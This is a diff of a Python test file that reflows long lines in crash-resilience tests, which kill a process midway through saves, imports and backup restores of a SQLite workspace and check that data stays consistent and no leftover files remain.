@@ -846,7 +1147,9 @@ def test_killed_at_random_points_during_imports_and_saves(tmp_path, journal, kil
         last = [ln for ln in seen if ln.startswith(("start ", "done ", "phase "))][-1]
         interrupted["between steps" if last.startswith("done") else last.replace("start ", "")] += 1
         states[check_invariants(path, opened_with, fingerprints, checked)] += 1
-    print(f"\n{journal}: kills interrupted {dict(sorted(interrupted.items()))}; fixed tables after kills {dict(states)}")
+    print(
+        f"\n{journal}: kills interrupted {dict(sorted(interrupted.items()))}; fixed tables after kills {dict(states)}"
+    )
     assert sum(v for k, v in interrupted.items() if k != "between steps") >= kills // 2, interrupted
 
 
@@ -860,7 +1163,13 @@ def test_a_restore_killed_midway_leaves_no_copy_of_the_data_behind(tmp_path):
     scratch_tmp.mkdir()
     with Workspace.open(path) as w:
         w.put_rows(page_rows("private"))
-        w.write(inserts={"contacts": [{"first_name": f"Person {i}", "notes": "private note"} for i in range(200)]})
+        w.write(
+            inserts={
+                "contacts": [
+                    {"first_name": f"Person {i}", "notes": "private note"} for i in range(200)
+                ]
+            }
+        )
         backup_file = tmp_path / "infoint-backup.zip"
         backup_file.write_bytes(exports.backup_bytes(w))
     stuck = textwrap.dedent(
@@ -878,17 +1187,32 @@ def test_a_restore_killed_midway_leaves_no_copy_of_the_data_behind(tmp_path):
         """
     )
     env = {**child_env("wal"), "TMPDIR": str(scratch_tmp)}
-    proc = subprocess.Popen([sys.executable, "-c", stuck, str(path), str(backup_file)], env=env,
-                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
-    assert proc.stdout.readline().strip() == "scratch ready", proc.communicate(timeout=60)[1][-3000:]
+    proc = subprocess.Popen(
+        [sys.executable, "-c", stuck, str(path), str(backup_file)],
+        env=env,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
+    assert proc.stdout.readline().strip() == "scratch ready", proc.communicate(timeout=60)[1][
+        -3000:
+    ]
     proc.send_signal(signal.SIGKILL)
     proc.communicate(timeout=60)
     # The next session opens the workbook and restores again, normally.
     with Workspace.open(path) as w:
         exports.restore_backup(w, backup_file.read_bytes())
         assert w.get_row("profile")["name"] == "Tester private"
-    documented = {"workspace.sqlite3", "workspace.sqlite3-wal", "workspace.sqlite3-shm", "workspace.sqlite3-journal", "backups"}
-    left = sorted(p.name for p in folder.iterdir() if p.name not in documented) + sorted(p.name for p in scratch_tmp.iterdir())
+    documented = {
+        "workspace.sqlite3",
+        "workspace.sqlite3-wal",
+        "workspace.sqlite3-shm",
+        "workspace.sqlite3-journal",
+        "backups",
+    }
+    left = sorted(p.name for p in folder.iterdir() if p.name not in documented) + sorted(
+        p.name for p in scratch_tmp.iterdir()
+    )
     assert left == [], f"left beside the workspace after a killed restore: {left}"
 
 
@@ -949,7 +1273,10 @@ def test_killed_inside_a_transaction_changes_nothing(tmp_path, journal, what):
         before = w.dump()
     proc = subprocess.Popen(
         [sys.executable, "-c", MIDWAY, str(path), str(backup_file), what, str(IMPORT_SIZE)],
-        env=child_env(journal), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
+        env=child_env(journal),
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
     )
     line = proc.stdout.readline().strip()
     if line != "midway":
